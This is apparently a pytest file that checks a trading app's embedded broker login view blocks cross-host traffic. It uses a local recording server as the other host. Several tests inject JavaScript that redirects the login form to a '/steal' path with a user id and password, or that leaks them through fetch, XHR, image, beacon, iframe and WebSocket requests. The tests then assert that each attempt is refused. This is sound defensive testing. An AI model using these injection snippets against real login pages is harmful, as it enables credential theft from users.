"""The login web view against other hosts, beyond tests/views/test_login_view.py (links, typed URLs, popups,
the redirect URL): a form posted to another host, and a frame from another host, are refused, and the other
host (a recording server on another port) never receives the trader's user id or password.
"""

from __future__ import annotations

import os

os.environ.setdefault("QTWEBENGINE_DISABLE_SANDBOX", "1")
os.environ.setdefault("QTWEBENGINE_CHROMIUM_FLAGS", "--no-sandbox --disable-gpu")

import http.server
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from PySide6 import QtWebEngineWidgets  # noqa: F401  (before the QApplication exists)
from PySide6.QtWebEngineCore import QWebEnginePage
from pytestqt.qtbot import QtBot

from trailstop_gui.models.store import ProtectionStore
from trailstop_gui.services.secrets import SecretStore
from trailstop_gui.services.session import AccountSession, Endpoints
from trailstop_gui.simulator.runner import SimulatorHandle, start_simulator
from trailstop_gui.views.login_view import LoginDialog

LOAD_MS = 15_000


class Recorder(http.server.ThreadingHTTPServer):
    """Another host, as far as the login policy is concerned (another port): it records what reaches it."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, str, bytes]] = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def _record(handler, method: str) -> None:
                length = int(handler.headers.get("Content-Length") or 0)
                self.seen.append((method, handler.path, handler.rfile.read(length) if length else b""))
                handler.send_response(200)
                handler.send_header("Content-Type", "text/html")
                handler.end_headers()
                handler.wfile.write(b"<html><body>elsewhere</body></html>")

            def do_GET(handler) -> None:
                handler._record("GET")

            def do_POST(handler) -> None:
                handler._record("POST")

            def log_message(handler, *args: Any) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.serve_forever, daemon=True)
        self.thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture(scope="module")
def sim() -> Iterator[SimulatorHandle]:
    handle = start_simulator(seed=19, auto=False, fill_delay=0.0)
    yield handle
    handle.stop()


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    server = Recorder()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def dialog(qtbot: QtBot, sim: SimulatorHandle, tmp_path: Path) -> Iterator[LoginDialog]:
    section = sim.info["kite"]
    store = ProtectionStore(tmp_path / "login.db")
    account = store.add_account(
        "kite",
        "Zerodha",
        user_id=section["user_id"],
        api_key=section["api_key"],
        redirect_url=section["redirect_url"],
        api_root=sim.url,
    )
    secrets = SecretStore()
    secrets.set(account.id, "api_secret", section["api_secret"])
    session = AccountSession(account, secrets, Endpoints.for_simulator(sim.info, "kite"))
    view = LoginDialog(session)
    qtbot.addWidget(view)
    with qtbot.waitSignal(view.page.loadFinished, timeout=LOAD_MS):
        view.show()
    yield view
    store.close()


def run_js(qtbot: QtBot, page: QWebEnginePage, script: str) -> Any:
    results: list[Any] = []
    page.runJavaScript(script, 0, results.append)
    qtbot.waitUntil(lambda: bool(results), timeout=LOAD_MS)
    return results[0]


def test_credentials_posted_to_another_host_are_refused(
    qtbot: QtBot, dialog: LoginDialog, recorder: Recorder
) -> None:
    login_page = dialog.page.url().toString()
    script = (
        "var f = document.forms[0];"
        f"f.action = {json.dumps(recorder.url + '/steal')};"
        "f.querySelector('input[name=user_id]').value = 'DM1234';"
        "f.querySelector('input[name=password]').value = 'demo1234';"
        "f.querySelector('button[type=submit]').click(); true"
    )
    with qtbot.waitSignal(dialog.navigation_refused, timeout=LOAD_MS) as refused:
        assert run_js(qtbot, dialog.page, script) is True
    assert refused.args[0].startswith(recorder.url)
    qtbot.wait(300)
    assert recorder.seen == []  # nothing left the broker's host
    assert dialog.page.url().toString() == login_page and dialog.session.token() is None


def test_a_frame_from_another_host_is_refused(qtbot: QtBot, dialog: LoginDialog, recorder: Recorder) -> None:
    script = (
        "var frame = document.createElement('iframe');"
        f"frame.src = {json.dumps(recorder.url + '/framed')};"
        "document.body.appendChild(frame); true"
    )
    with qtbot.waitSignal(dialog.navigation_refused, timeout=LOAD_MS) as refused:
        assert run_js(qtbot, dialog.page, script) is True
    assert refused.args[0].startswith(recorder.url)
    qtbot.wait(300)
    assert [path for _method, path, _body in recorder.seen if path.startswith("/framed")] == []


def test_scripts_in_the_page_cannot_reach_another_host(
    qtbot: QtBot, dialog: LoginDialog, recorder: Recorder
) -> None:
    """fetch, XHR, an image, a beacon and a WebSocket: the interceptor blocks each before it leaves."""
    ws_url = recorder.url.replace("http://", "ws://")
    script = (
        f"fetch({json.dumps(recorder.url + '/fetch?user_id=DM1234')}, {{mode: 'no-cors'}}).catch(() => 0);"
        f"var x = new XMLHttpRequest(); x.open('GET', {json.dumps(recorder.url + '/xhr')}); x.send();"
        f"new Image().src = {json.dumps(recorder.url + '/img')};"
        f"navigator.sendBeacon({json.dumps(recorder.url + '/beacon')}, 'password=demo1234');"
        f"try {{ new WebSocket({json.dumps(ws_url + '/ws')}); }} catch (e) {{}}"
        "true"
    )
    assert run_js(qtbot, dialog.page, script) is True
    qtbot.waitUntil(lambda: len(dialog.interceptor.blocked) >= 5, timeout=LOAD_MS)
    qtbot.wait(300)
    assert recorder.seen == []
    # Origins only: never a path or query (a blocked URL may carry what the page tried to send).
    assert set(dialog.interceptor.blocked) == {recorder.url, ws_url}


def test_the_page_gets_no_file_chooser(dialog: LoginDialog) -> None:
    chosen = dialog.page.chooseFiles(QWebEnginePage.FileSelectionMode.FileSelectOpen, [], [])
    assert chosen == []
